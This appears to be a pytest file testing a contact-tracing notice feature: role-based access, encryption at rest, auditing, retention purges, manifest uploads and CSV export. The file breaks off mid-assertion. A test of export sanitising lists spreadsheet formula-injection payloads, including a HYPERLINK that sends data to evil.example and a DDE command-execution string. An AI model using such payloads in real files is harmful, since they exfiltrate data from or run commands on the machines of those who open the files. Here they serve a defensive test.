"""Contact-tracing notices: who sees the persons, encryption at rest, audit, retention."""

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import inspect, select, text

from eocnet.db.models import AuditEntry, StreamEntry, TracingNotice
from tests.helpers import count, run_cli

NAMES = ["Zubaidah Kartikasari-Quon", "Phalla Xyvrenth"]
DOCS = ["XQ9981734", "ZR5520918"]
PHONES = ["+62 812 9988 7766", "+855 12 345 991"]


def _persons():
    return [
        {
            "role": "co_traveller",
            "full_name": NAMES[i],
            "nationality": "KHM",
            "document_number": DOCS[i],
            "phone": PHONES[i],
            "email": f"p{i}@mail.example",
            "travel_mode": "flight",
            "travel_number": "QZ7521",
            "seat": f"1{i}A",
            "travel_date": "2026-11-20",
        }
        for i in range(2)
    ]


@pytest.fixture
def parties(client, make_person):
    people = {
        "idn_fp": make_person("IDN", "officer", "focal_point"),
        "idn_officer": make_person("IDN", "officer"),
        "khm_fp": make_person("KHM", "officer", "focal_point"),
        "khm_officer": make_person("KHM", "officer"),
        "tha_fp": make_person("THA", "officer", "focal_point"),
        "coordinator": make_person("ASEC", "coordinator"),
        "partner": make_person("JPN", "partner"),
        "net_admin": make_person("ASEC", "admin"),
    }
    event = client.post(
        "/api/v1/events",
        headers=people["idn_fp"].headers,
        json={"title": "Measles on flight QZ7521", "hazard": "Measles", "country": "IDN"},
    ).json()
    people["event_id"] = event["id"]
    return people


def _send(client, people):
    r = client.post(
        "/api/v1/tracing-notices",
        headers=people["idn_fp"].headers,
        json={
            "event_id": people["event_id"],
            "parties": ["KHM"],
            "persons": _persons(),
            "summary": "Two co-travellers seated near the index case.",
        },
    )
    assert r.status_code == 201, r.text
    return r.json()


def test_contract_and_who_sees_the_persons(client, parties):
    notice = _send(client, parties)
    assert [p["full_name"] for p in notice["persons"]] == NAMES
    nid = notice["id"]
    receiver = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["khm_fp"].headers)
    assert receiver.status_code == 200
    assert {p["document_number"] for p in receiver.json()["persons"]} == set(DOCS)
    # same parties, but officers: the notice without the persons
    for who in ("khm_officer", "idn_officer", "coordinator"):
        r = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties[who].headers)
        assert r.status_code == 200 and r.json()["persons"] is None, who
        assert NAMES[0] not in r.text
    # parties that are not concerned: nothing, not even in lists
    for who in ("tha_fp", "partner", "net_admin"):
        assert (
            client.get(f"/api/v1/tracing-notices/{nid}", headers=parties[who].headers).status_code
            == 404
        ), who
        assert client.get("/api/v1/tracing-notices", headers=parties[who].headers).json() == []
    listed = client.get("/api/v1/tracing-notices", headers=parties["coordinator"].headers).json()
    assert [n["id"] for n in listed] == [nid] and listed[0]["persons"] is None
    assert (
        NAMES[0]
        not in client.get("/api/v1/tracing-notices", headers=parties["khm_fp"].headers).text
    )
    # personal data never reaches search or the stream
    assert (
        client.get(
            f"/api/v1/search?q={NAMES[0].split()[0]}", headers=parties["khm_fp"].headers
        ).json()["items"]
        == []
    )


def test_every_read_is_audited(client, db, parties):
    notice = _send(client, parties)
    client.get(f"/api/v1/tracing-notices/{notice['id']}", headers=parties["khm_fp"].headers)
    with db.read() as s:
        reads = (
            s.execute(select(AuditEntry).where(AuditEntry.action == "tracing.read_persons"))
            .scalars()
            .all()
        )
    assert [r.actor for r in reads] == [parties["idn_fp"].email, parties["khm_fp"].email]
    assert json.loads(reads[1].details)["persons"] == [p["id"] for p in notice["statuses"]]


def test_only_focal_points_send(client, parties):
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_officer"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": _persons()},
    )
    assert r.status_code == 403


@pytest.mark.parametrize(
    "change, field",
    [
        ({"event_id": 999999}, "event_id"),
        ({"parties": ["XYZ"]}, "parties"),
        ({"parties": ["IDN"]}, "parties"),
        (
            {
                "persons": [
                    {"role": "contact", "full_name": "A", "nationality": "KHM", "seat": "1A"}
                ]
            },
            "persons.0.document_number",
        ),
        ({"persons": [{"role": "contact", "phone": "+855 1"}]}, "persons.0.full_name"),
        ({"persons": [{**_persons()[0], "last_exposure": "soon"}]}, "persons.0.last_exposure"),
        ({"persons": [{**_persons()[0], "nationality": "Cambodia"}]}, "persons.0.nationality"),
        ({"persons": [{**_persons()[0], "passport_photo": "x"}]}, "persons.0.passport_photo"),
    ],
)
def test_bad_input_saves_nothing(client, db, parties, change, field):
    before = count(db, TracingNotice), count(db, AuditEntry)
    body = {"event_id": parties["event_id"], "parties": ["KHM"], "persons": _persons(), **change}
    r = client.post("/api/v1/tracing-notices", headers=parties["idn_fp"].headers, json=body)
    assert r.status_code == 422 and r.json()["field"] == field, r.text
    assert (count(db, TracingNotice), count(db, AuditEntry)) == before


def test_outcomes_by_the_receiver_reach_the_sender(client, parties):
    notice = _send(client, parties)
    nid, pid = notice["id"], notice["statuses"][0]["id"]
    r = client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{pid}/outcome",
        headers=parties["idn_fp"].headers,
        json={"outcome": "reached"},
    )
    assert r.status_code == 403  # the sender does not trace
    r = client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{pid}/outcome",
        headers=parties["khm_officer"].headers,
        json={"outcome": "tested", "test_result": "negative", "outcome_date": "2026-11-22"},
    )
    assert r.status_code == 200 and r.json()["test_result"] == "negative"
    seen = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["idn_fp"].headers).json()
    assert seen["outcomes"] == {"tested": 1, "pending": 1}


_SCAN = """
import sys
from pathlib import Path
path, needles = Path(sys.argv[1]), [n.encode() for n in sys.argv[2:]]
for f in (path, Path(f"{path}-wal")):
    if f.exists():
        blob = f.read_bytes()
        print(" ".join(f"{f.name}:{n.decode()}" for n in needles if n in blob))
"""


def test_no_plaintext_at_rest(client, db, parties, database_url):
    _send(client, parties)
    needles = [s.encode() for s in NAMES + DOCS + PHONES]
    if db.is_sqlite:
        # The files are read by another process: closing a descriptor of the database
        # file in this one would drop SQLite's POSIX locks on it (they are per process),
        # and the servers of later tests would then reset the WAL under this process's
        # connections, which would go on reading a stale snapshot.
        path = Path(database_url.split("///", 1)[1])
        found = subprocess.run(
            [sys.executable, "-c", _SCAN, str(path), *[n.decode() for n in needles]],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.split()
        assert found == [], found
    with db.engine.connect() as conn:
        for table in inspect(conn).get_table_names():
            for row in conn.execute(text(f'SELECT * FROM "{table}"')):
                flat = " ".join(str(v) for v in row)
                assert not any(n.decode() in flat for n in needles), table
    with db.read() as s:
        for entry in s.execute(select(StreamEntry)).scalars():
            assert not any(n.decode() in entry.data for n in needles)


def _purge(monkeypatch, capsys, database_url, when, *extra):
    return run_cli(monkeypatch, capsys, database_url, "jobs", "purge", "--now", when, *extra)


def _readable(client, parties, nid):
    r = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["khm_fp"].headers).json()
    return sorted(p["full_name"] for p in r["persons"])


def test_contract_phone_optional_and_follow_up_until(client, parties):
    persons = [
        {"role": "contact", "full_name": "No Phone Measles", "document_number": "P1",
         "last_exposure": "2026-11-20", "disease": "measles"},
        {"role": "contact", "full_name": "Only Email", "email": "x@mail.example",
         "last_exposure": "2026-11-25", "disease": "MERS-CoV"},
        {"role": "contact", "full_name": "Only Address", "address": "Jl. Example 1",
         "nationality": "idn", "last_exposure": "2026-11-26", "disease": "Diphtheria"},
        # no disease: the event's hazard (measles); no last exposure: the journey
        {"role": "co_traveller", "full_name": "Only Phone", "phone": "+855 1",
         "travel_date": "2026-11-19"},
        # a disease the table does not know: followed for the longest period
        {"role": "contact", "full_name": "Unknown Disease", "phone": "+855 2",
         "last_exposure": "2026-11-20", "disease": "Disease X"},
    ]  # fmt: skip
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": persons},
    )
    assert r.status_code == 201, r.text
    nid = r.json()["id"]
    expected = {
        "No Phone Measles": ("measles", "2026-12-11"),
        "Only Email": ("mers", "2026-12-09"),
        "Only Address": ("diphtheria", "2026-12-06"),
        "Only Phone": ("measles", "2026-12-10"),
        "Unknown Disease": ("Disease X", "2026-12-11"),
    }
    got = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["khm_fp"].headers).json()
    assert {p["full_name"]: (p["disease"], p["follow_up_until"]) for p in got["persons"]} == (
        expected
    )
    assert got["persons"][0]["last_exposure"] == "2026-11-20" and "phone" not in got["persons"][0]
    assert got["persons"][2]["nationality"] == "IDN"
    # those who may not read the persons still see each one's follow-up end
    officer = client.get(
        f"/api/v1/tracing-notices/{nid}", headers=parties["khm_officer"].headers
    ).json()
    assert officer["persons"] is None
    assert sorted(s["follow_up_until"] for s in officer["statuses"]) == sorted(
        until for _, until in expected.values()
    )
    assert got["purge_after"].startswith("2026-12-25T00:00:00")


def test_retention_counts_from_each_follow_up_day_by_day(
    client, db, parties, monkeypatch, capsys, database_url
):
    """Measles: last exposure 20 Nov, followed until 11 Dec, kept 14 days more: until
    25 Dec 00:00 UTC. MERS: 25 Nov, until 9 Dec, kept until 23 Dec 00:00 UTC."""
    persons = [
        {**_persons()[0], "last_exposure": "2026-11-20"},  # the event's measles
        {**_persons()[1], "last_exposure": "2026-11-25", "disease": "MERS"},
    ]
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": persons},
    )
    nid = r.json()["id"]
    assert [s["follow_up_until"] for s in r.json()["statuses"]] == ["2026-12-11", "2026-12-09"]
    # sending day + 14 (the old rule) deletes nothing any more
    for day in ("2026-12-15", "2026-12-20", "2026-12-22T23:59:59"):
        r = _purge(monkeypatch, capsys, database_url, day)
        assert r.code == 0 and "0 person(s) in 0 notice" in r.out, (day, r.out)
        assert _readable(client, parties, nid) == sorted(NAMES), day
    r = _purge(monkeypatch, capsys, database_url, "2026-12-23T00:00:00Z", "--dry-run")
    assert f"would delete the personal data of 1 person(s) in 1 notice(s): {nid}" in r.out
    assert _readable(client, parties, nid) == sorted(NAMES)
    r = _purge(monkeypatch, capsys, database_url, "2026-12-23")
    assert "deleted the personal data of 1 person(s) in 1 notice(s)" in r.out
    assert _readable(client, parties, nid) == [NAMES[0]]
    with db.read() as s:
        row = s.get(TracingNotice, nid)
        assert row.wrapped_key is not None and row.purged_at is None
    for day in ("2026-12-23T12:00:00", "2026-12-24", "2026-12-24T23:59:59+00:00"):
        r = _purge(monkeypatch, capsys, database_url, day)
        assert "0 person(s)" in r.out and _readable(client, parties, nid) == [NAMES[0]], day
    # a time zone is honoured: 07:00 in Jakarta on the 25th is midnight UTC
    r = _purge(monkeypatch, capsys, database_url, "2026-12-25T06:59:59+07:00")
    assert "0 person(s)" in r.out
    r = _purge(monkeypatch, capsys, database_url, "2026-12-25T07:00:00+07:00")
    assert "deleted the personal data of 1 person(s) in 1 notice(s)" in r.out
    after = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["khm_fp"].headers).json()
    assert after["persons"] == [] and after["purged_at"] and after["persons_count"] == 2
    assert [s["follow_up_until"] for s in after["statuses"]] == ["2026-12-11", "2026-12-09"]
    with db.read() as s:
        row = s.get(TracingNotice, nid)
        assert row.wrapped_key is None and all(p.sealed is None for p in row.persons)
        purges = [
            json.loads(a.details)
            for a in s.execute(select(AuditEntry).where(AuditEntry.action == "tracing.purge"))
            .scalars()
            .all()
        ]
    ids = [p["id"] for p in after["statuses"]]
    assert [(p["person_ids"], p["data_key_destroyed"]) for p in purges] == [
        ([ids[1]], False),
        ([ids[0]], True),
    ]
    assert "0 person(s)" in _purge(monkeypatch, capsys, database_url, "2027-06-01").out
    bad = _purge(monkeypatch, capsys, database_url, "yesterday")
    assert bad.code == 1 and "ISO 8601" in bad.err


@pytest.mark.parametrize("margin, kept_until", [(0, "2026-12-11"), (30, "2027-01-10")])
def test_retention_margin_is_a_setting(
    client, parties, monkeypatch, capsys, database_url, margin, kept_until
):
    persons = [{**_persons()[0], "last_exposure": "2026-11-20"}]
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": persons},
    )
    nid = r.json()["id"]
    monkeypatch.setenv("EOCNET_TRACING_FOLLOW_UP_MARGIN_DAYS", str(margin))
    last = f"{kept_until}T00:00:00"
    before = (datetime.fromisoformat(last) - timedelta(seconds=1)).isoformat()
    assert "0 person(s)" in _purge(monkeypatch, capsys, database_url, before).out
    assert _readable(client, parties, nid) == [NAMES[0]]
    assert "1 person(s)" in _purge(monkeypatch, capsys, database_url, last).out
    assert _readable(client, parties, nid) == []


def test_early_deletion_on_request(client, parties):
    notice = _send(client, parties)
    assert (
        client.post(
            f"/api/v1/tracing-notices/{notice['id']}/purge", headers=parties["khm_officer"].headers
        ).status_code
        == 403
    )
    assert (
        client.post(
            f"/api/v1/tracing-notices/{notice['id']}/purge", headers=parties["khm_fp"].headers
        ).status_code
        == 204
    )
    assert (
        client.get(
            f"/api/v1/tracing-notices/{notice['id']}", headers=parties["idn_fp"].headers
        ).json()["persons"]
        == []
    )


def test_master_key_rotation(
    client, app, db, parties, monkeypatch, capsys, database_url, tmp_path, settings
):
    from eocnet.vault.envelope import new_master_key

    notice = _send(client, parties)
    old_file = tmp_path / "old.key"
    old_file.write_text(settings.master_key)
    new_key = new_master_key()
    monkeypatch.setenv("EOCNET_MASTER_KEY", new_key)
    r = run_cli(
        monkeypatch, capsys, database_url, "keys", "rotate", "--old-key-file", str(old_file)
    )
    assert r.code == 0 and "1 notice" in r.out, r.err
    # the server still on the old key refuses clearly; on the new key it reads
    stale = client.get(f"/api/v1/tracing-notices/{notice['id']}", headers=parties["khm_fp"].headers)
    assert stale.status_code == 409
    app.state.settings = settings.model_copy(update={"master_key": new_key})
    fresh = client.get(
        f"/api/v1/tracing-notices/{notice['id']}", headers=parties["khm_fp"].headers
    ).json()
    assert [p["full_name"] for p in fresh["persons"]] == NAMES
    wrong = tmp_path / "wrong.key"
    wrong.write_text(new_master_key())
    monkeypatch.setenv("EOCNET_MASTER_KEY", new_master_key())
    r = run_cli(monkeypatch, capsys, database_url, "keys", "rotate", "--old-key-file", str(wrong))
    assert r.code == 1 and r.err.count("\n") == 1


MANIFEST = (
    "Name,Passport,Mobile,Nationality,Seat,Flight\n"
    "Sokha Mengvireak,KH1234567,+855 12 000 111,KHM,12A,QZ7521\n"
    "Missing Passport,,+855 12 000 222,KHM,12B,QZ7521\n"
    "Dara Phirunvath,KH7654321,+855 12 000 333,Cambodia,12C,QZ7521\n"
    "Chenda Rathanakvong,KH5550001,+855 12 000 444,KHM,12D,QZ7521\n"
)


def _upload(client, people, content, filename="manifest.csv", **form):
    data = {"event_id": str(people["event_id"]), "parties": "KHM", **form}
    return client.post(
        "/api/v1/tracing-notices/manifest",
        headers=people["idn_fp"].headers,
        data=data,
        files={"file": (filename, content)},
    )


def test_manifest_report_then_nothing_saved_until_valid(client, db, parties):
    check = _upload(client, parties, MANIFEST.encode(), dry_run="true").json()
    assert check["mapping"] == {
        "Name": "full_name",
        "Passport": "document_number",
        "Mobile": "phone",
        "Nationality": "nationality",
        "Seat": "seat",
        "Flight": "travel_number",
    }
    # a row without a passport is traced by its phone; a bad nationality is refused
    assert check["rows"] == 4 and check["valid"] == 3
    assert [(e["row"], e["field"]) for e in check["errors"]] == [(4, "rows.4.nationality")]
    r = _upload(client, parties, MANIFEST.encode())
    assert r.status_code == 422 and len(r.json()["errors"]) == 1
    assert count(db, TracingNotice) == 0
    r = _upload(client, parties, MANIFEST.encode(), drop_invalid="true")
    assert r.status_code == 201 and r.json()["notice"]["persons_count"] == 3
    assert count(db, TracingNotice) == 1


def test_manifest_xlsx_and_explicit_mapping(client, parties):
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Passenger", "Doc", "Tel", "Country", "Born"])
    sheet.append(["Vanna Sreypich", "KH9990001", "+855 12 999", "KHM", "1990-04-02"])
    buffer = io.BytesIO()
    book.save(buffer)
    mapping = json.dumps(
        {
            "Passenger": "full_name",
            "Doc": "document_number",
            "Tel": "phone",
            "Country": "nationality",
            "Born": "date_of_birth",
        }
    )
    r = _upload(client, parties, buffer.getvalue(), "list.xlsx", mapping=mapping)
    assert r.status_code == 201, r.text
    nid = r.json()["notice"]["id"]
    person = client.get(f"/api/v1/tracing-notices/{nid}", headers=parties["khm_fp"].headers).json()[
        "persons"
    ][0]
    assert person["full_name"] == "Vanna Sreypich" and person["date_of_birth"] == "1990-04-02"


@pytest.mark.parametrize(
    "content, form, field",
    [
        (b"\xff\xfe\x00bad", {}, "file"),
        (b"", {}, "file"),
        (MANIFEST.encode(), {"mapping": "[1, 2]"}, "mapping"),
        (MANIFEST.encode(), {"mapping": '{"Nope": "full_name"}'}, "mapping"),
        (b"Name,Seat\nA,1\n", {}, "mapping"),  # no way to reach the person
        (b"Passport,Mobile\nA,1\n", {}, "mapping"),  # no name
        (b"\r0", {}, "mapping"),  # a lone carriage return once crashed the CSV reader
        (b'Name,Passport\n"' + b"x" * 200_000 + b'",1\n', {}, "file"),  # over the field limit
    ],
)
def test_manifest_bad_files(client, db, parties, content, form, field):
    r = _upload(client, parties, content, **form)
    assert r.status_code == 422 and r.json()["field"] == field, r.text
    assert count(db, TracingNotice) == 0


ENDPOINTS = [
    ("GET", "/api/v1/tracing-notices/{id}"),
    ("GET", "/api/v1/tracing-notices/{id}/export.csv"),
    ("POST", "/api/v1/tracing-notices/{id}/persons/{pid}/outcome"),
    ("POST", "/api/v1/tracing-notices/{id}/purge"),
]


def test_authorization_matrix(client, db, parties, make_person):
    """Every party and role against every tracing endpoint: personal data only where
    allowed; parties not concerned learn nothing."""
    notice = _send(client, parties)
    nid, pid = notice["id"], notice["statuses"][0]["id"]
    people = {
        ("IDN", "focal_point"): parties["idn_fp"],
        ("IDN", "officer"): parties["idn_officer"],
        ("KHM", "focal_point"): parties["khm_fp"],
        ("KHM", "officer"): parties["khm_officer"],
        ("THA", "focal_point"): parties["tha_fp"],
        ("THA", "officer"): make_person("THA", "officer"),
        ("ASEC", "coordinator"): parties["coordinator"],
        ("ASEC", "admin"): parties["net_admin"],
        ("JPN", "partner"): parties["partner"],
        ("KHM", "admin"): make_person("KHM", "admin"),
    }
    # (party, role) -> expected status per endpoint, in ENDPOINTS order (purge last)
    expected = {
        ("IDN", "focal_point"): [200, 200, 403, None],
        ("IDN", "officer"): [200, 403, 403, 403],
        ("KHM", "focal_point"): [200, 200, 200, None],
        ("KHM", "officer"): [200, 403, 200, 403],
        ("KHM", "admin"): [200, 403, 200, 403],
        ("ASEC", "coordinator"): [200, 403, 403, 403],
        ("THA", "focal_point"): [404, 404, 404, 404],
        ("THA", "officer"): [404, 404, 404, 404],
        ("ASEC", "admin"): [404, 404, 404, 404],
        ("JPN", "partner"): [404, 404, 404, 404],
    }
    for key, person in people.items():
        for (method, path), status in zip(ENDPOINTS, expected[key], strict=True):
            if status is None:
                continue
            url = path.format(id=nid, pid=pid)
            body = {"outcome": "reached"} if "outcome" in url else None
            r = client.request(method, url, headers=person.headers, json=body)
            assert r.status_code == status, (key, method, url, r.status_code)
            if status != 200 or key[1] != "focal_point" or key[0] == "ASEC":
                assert NAMES[0] not in r.text, (key, url)
    export = client.get(
        f"/api/v1/tracing-notices/{nid}/export.csv", headers=parties["khm_fp"].headers
    )
    assert NAMES[1] in export.text and export.headers["content-type"].startswith("text/csv")
    with db.read() as s:
        exports = s.execute(select(AuditEntry).where(AuditEntry.action == "tracing.export")).all()
    assert len(exports) == 3  # two in the matrix, one just above
    # the stream announces the notice to the parties concerned and the coordinator only
    with db.read() as s:
        created = s.execute(
            select(StreamEntry).where(StreamEntry.kind == "tracing.created")
        ).scalar_one()
    assert created.parties_key == ",ASEC,KHM," and created.owner_party == "IDN"
    assert NAMES[0] not in created.data


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+A1",
]


def test_export_neutralises_spreadsheet_formulas(client, parties):
    """Names and numbers come from another country or an airline manifest: no cell of
    the tracers' export runs as a formula when opened in a spreadsheet."""
    person = {
        **_persons()[0],
        "full_name": FORMULAS[0],
        "document_number": FORMULAS[1],
        "phone": FORMULAS[2],
        "email": FORMULAS[3],
        "seat": FORMULAS[4],
    }
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": [person]},
    )
    assert r.status_code == 201, r.text
    nid = r.json()["id"]
    export = client.get(
        f"/api/v1/tracing-notices/{nid}/export.csv", headers=parties["khm_fp"].headers
    )
    assert export.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(export.text)))
    cells = [row["full_name"], row["document_number"], row["phone"], row["email"], row["seat"]]
    assert cells == ["'" + f for f in FORMULAS]
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the parties not concerned still get nothing
    for who in ("tha_fp", "partner"):
        other = client.get(
            f"/api/v1/tracing-notices/{nid}/export.csv", headers=parties[who].headers
        )
        assert other.status_code == 404 and "HYPERLINK" not in other.text


def test_one_csv_writer():
    """Every CSV the project writes goes through interop.tables.write_csv, and no XLSX
    is written anywhere else."""
    root = Path(__file__).resolve().parent.parent / "eocnet"
    writers = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", "Workbook(", "write_only=True"):
            if needle in source and path.relative_to(root).as_posix() != "interop/tables.py":
                writers.append((path.relative_to(root).as_posix(), needle))
    assert writers == []


def test_patient_travel_notice(client, parties):
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={
            "event_id": parties["event_id"],
            "parties": ["KHM"],
            "kind": "patient_travel",
            "persons": [
                {
                    **_persons()[0],
                    "role": "case",
                    "expected_arrival": "2026-11-24T09:30:00+07:00",
                    "receiving_facility": "Calmette Hospital, Phnom Penh",
                    "condition": "stable, isolation needed",
                }
            ],
        },
    )
    assert r.status_code == 201, r.text
    person = client.get(
        f"/api/v1/tracing-notices/{r.json()['id']}", headers=parties["khm_fp"].headers
    ).json()["persons"][0]
    assert person["receiving_facility"].startswith("Calmette")
    assert r.json()["kind"] == "patient_travel"


def test_tracer_reads_only_assigned_persons(client, parties, make_person):
    notice = _send(client, parties)
    nid, first = notice["id"], notice["statuses"][0]["id"]
    tracer = parties["khm_officer"]
    r = client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{first}/assign",
        headers=parties["idn_fp"].headers,
        json={"tracer_id": tracer.id},
    )
    assert r.status_code == 403  # the sender does not assign
    other = make_person("THA", "officer")
    r = client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{first}/assign",
        headers=parties["khm_fp"].headers,
        json={"tracer_id": other.id},
    )
    assert r.status_code == 422 and r.json()["field"] == "tracer_id"
    r = client.post(
        f"/api/v1/tracing-notices/{nid}/persons/{first}/assign",
        headers=parties["khm_fp"].headers,
        json={"tracer_id": tracer.id},
    )
    assert r.status_code == 200 and r.json()["tracer_id"] == tracer.id
    seen = client.get(f"/api/v1/tracing-notices/{nid}", headers=tracer.headers).json()
    assert [p["full_name"] for p in seen["persons"]] == [NAMES[0]]
    assert NAMES[1] not in str(seen)


def test_assign_from_the_page(client, parties):
    from tests.web_helpers import csrf_of, login

    notice = _send(client, parties)
    client.cookies.clear()
    khm_fp = parties["khm_fp"]
    # focal points need a second factor in the web; set it up through the page
    import re

    import pyotp

    login(client, khm_fp.email, khm_fp.password)
    page = client.get("/account/2fa")
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', page.text).group(1)
    client.post(
        "/account/2fa", data={"code": pyotp.TOTP(secret).now(), "csrf_token": csrf_of(page.text)}
    )
    page = client.get(f"/tracing/{notice['id']}")
    assert NAMES[0] in page.text and 'name="tracer_id"' in page.text
    pid = notice["statuses"][1]["id"]
    r = client.post(
        f"/tracing/{notice['id']}/persons/{pid}/assign",
        data={"csrf_token": csrf_of(page.text), "tracer_id": str(parties["khm_officer"].id)},
        follow_redirects=False,
    )
    assert r.status_code == 303
    seen = client.get(
        f"/api/v1/tracing-notices/{notice['id']}", headers=parties["khm_officer"].headers
    ).json()
    assert [p["full_name"] for p in seen["persons"]] == [NAMES[1]]


def test_webhooks_get_tracing_entries_without_personal_data(
    client, db, parties, make_person, settings, app
):
    from eocnet.db.models import WebhookDelivery
    from eocnet.jobs import webhooks

    app.state.settings = settings.model_copy(update={"webhook_allow_private": True})
    hooks = {}
    for code in ("KHM", "THA"):
        admin = make_person(code, "admin")
        hooks[code] = client.post(
            "/api/v1/webhooks", headers=admin.headers, json={"url": "http://127.0.0.1:9/hook"}
        ).json()["id"]
    _send(client, parties)
    webhooks.fan_out(db)
    with db.read() as s:
        rows = s.execute(select(WebhookDelivery)).scalars().all()
        kinds = {(r.webhook_id, r.kind) for r in rows}
        entries = (
            s.execute(select(StreamEntry).where(StreamEntry.id.in_([r.entry_id for r in rows])))
            .scalars()
            .all()
        )
    assert (hooks["KHM"], "tracing.created") in kinds
    assert not any(h == hooks["THA"] and k.startswith("tracing.") for h, k in kinds)
    assert not any(n in e.data for e in entries for n in NAMES + DOCS + PHONES)


def test_manifest_mapping_step_in_the_page(client, db, parties):
    import re

    import pyotp

    from tests.web_helpers import csrf_of, login

    idn_fp = parties["idn_fp"]
    client.cookies.clear()
    login(client, idn_fp.email, idn_fp.password)
    page = client.get("/account/2fa")
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', page.text).group(1)
    client.post(
        "/account/2fa", data={"code": pyotp.TOTP(secret).now(), "csrf_token": csrf_of(page.text)}
    )
    csrf = csrf_of(client.get("/tracing/new").text)
    form = {"csrf_token": csrf, "event_id": str(parties["event_id"]), "parties": "KHM"}
    step1 = client.post("/tracing/new", data=form, files={"file": ("m.csv", MANIFEST.encode())})
    assert step1.status_code == 200 and 'id="map-form"' in step1.text
    assert 'value="last_exposure"' in step1.text and 'value="disease"' in step1.text
    file_data = re.search(r'name="file_data" value="([^"]+)"', step1.text).group(1)
    # map the columns by hand, leaving out the seat; two rows are invalid: nothing saved
    chosen = {
        "map_0": "full_name",
        "map_1": "document_number",
        "map_2": "phone",
        "map_3": "nationality",
        "map_5": "travel_number",
    }
    step2 = client.post(
        "/tracing/new",
        data={**form, **chosen, "step": "send", "file_data": file_data, "filename": "m.csv"},
    )
    assert step2.status_code == 422 and "Row 4" in step2.text and "Row 3" not in step2.text
    assert count(db, TracingNotice) == 0
    sent = client.post(
        "/tracing/new",
        data={
            **form,
            **chosen,
            "step": "send",
            "drop_invalid": "1",
            "file_data": file_data,
            "filename": "m.csv",
        },
        follow_redirects=False,
    )
    assert sent.status_code == 303 and count(db, TracingNotice) == 1


def test_a_cruise_ship_of_ten_thousand(client, db, parties):
    """Up to 10,000 persons a notice: a manifest without phone numbers, checked, sent
    and opened; one more is refused."""
    rows = "".join(
        f"Passenger {i:05d},N{i:08d},KHM,Deck {i % 12},2026-11-20\n" for i in range(10_000)
    )
    content = ("Name,Passport,Nationality,Cabin,Last contact\n" + rows).encode()
    r = _upload(client, parties, content, role="contact")
    assert r.status_code == 201, r.text[:500]
    notice = r.json()["notice"]
    assert notice["persons_count"] == 10_000 and notice["roles"] == {"contact": 10_000}
    opened = client.get(
        f"/api/v1/tracing-notices/{notice['id']}", headers=parties["khm_fp"].headers
    ).json()
    assert len(opened["persons"]) == 10_000
    assert {p["follow_up_until"] for p in opened["persons"]} == {"2026-12-11"}
    person = {"role": "contact", "full_name": "P", "document_number": "N1"}
    body = {"event_id": parties["event_id"], "parties": ["KHM"], "persons": [person] * 10_001}
    r = client.post("/api/v1/tracing-notices", headers=parties["idn_fp"].headers, json=body)
    assert r.status_code == 422 and r.json()["field"].startswith("persons"), r.text[:300]
    assert count(db, TracingNotice) == 1


def test_daily_follow_up_by_the_receivers(client, parties):
    today = datetime.now(UTC).date()
    persons = [{**p, "last_exposure": today.isoformat()} for p in _persons()]
    r = client.post(
        "/api/v1/tracing-notices",
        headers=parties["idn_fp"].headers,
        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": persons},
    )
    nid, pid = r.json()["id"], r.json()["statuses"][0]["id"]
    url = f"/api/v1/tracing-notices/{nid}/persons/{pid}/follow-up"
    assert (
        client.post(url, headers=parties["idn_fp"].headers, json={"status": "seen"}).status_code
        == 403
    )
    assert (
        client.post(url, headers=parties["tha_fp"].headers, json={"status": "seen"}).status_code
        == 404
    )
    r = client.post(url, headers=parties["khm_officer"].headers, json={"status": "seen"})
    assert r.status_code == 200 and r.json()["day"] == today.isoformat(), r.text
    # the same day again replaces it
    r = client.post(
        url,
        headers=parties["khm_officer"].headers,
        json={"status": "symptomatic", "day": today.isoformat()},
    )
    assert r.status_code == 200 and r.json()["status"] == "symptomatic"
    for body, field in [
        ({"status": "asleep"}, "status"),
        ({"status": "seen", "day": (today + timedelta(days=5)).isoformat()}, "day"),
        ({"status": "seen", "day": (today - timedelta(days=9)).isoformat()}, "day"),
    ]:
        r = client.post(url, headers=parties["khm_fp"].headers, json=body)
        assert r.status_code == 422 and r.json()["field"] == field, body
    other = f"/api/v1/tracing-notices/{nid}/persons/{pid + 1000}/follow-up"
    assert (
        client.post(other, headers=parties["khm_fp"].headers, json={"status": "seen"}).status_code
        == 404
    )
    listing = f"/api/v1/tracing-notices/{nid}/follow-up"
    for who in ("idn_fp", "idn_officer", "khm_officer", "coordinator"):
        days = client.get(listing, headers=parties[who].headers).json()
        assert [(d["person_id"], d["day"], d["status"]) for d in days] == [
